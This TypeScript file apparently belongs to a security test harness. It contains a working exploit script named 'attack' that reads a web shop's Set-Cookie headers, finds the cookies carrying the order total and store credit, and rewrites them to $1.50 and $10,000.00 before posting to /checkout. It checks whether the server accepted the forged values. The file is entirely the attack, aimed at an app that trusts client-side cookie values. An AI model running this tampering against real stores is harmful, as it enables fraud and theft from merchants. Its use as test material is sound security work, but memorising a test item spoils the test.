class Jar extends Map<string, string> {
  take(response: Response) {
    for (const line of response.headers.getSetCookie()) {
      const at = line.indexOf('=');
      this.set(line.slice(0, at), decodeURIComponent(line.slice(at + 1).split(';')[0]!));
    }
  }
  header() {
    return [...this].map(([name, value]) => `${name}=${encodeURIComponent(value)}`).join('; ');
  }
}

export default async function attack(fetch: typeof globalThis.fetch, baseUrl: string): Promise<boolean> {
  const jar = new Jar();
  const order = await fetch(`${baseUrl}/order`);
  jar.take(order);
  const { total, credit } = (await order.json()) as { total: string; credit: string };
  const wishes = new Map([
    [total, '$1.50'],
    [credit, '$10,000.00'],
  ]);
  for (const [name, value] of jar) jar.set(name, wishes.get(value) ?? value);
  const response = await fetch(`${baseUrl}/checkout`, { method: 'POST', headers: { cookie: jar.header() } });
  if (!response.ok) return false;
  const receipt = (await response.json()) as Record<string, unknown>;
  return receipt.total === '$1.50' && receipt.credit === '$10,000.00';
}
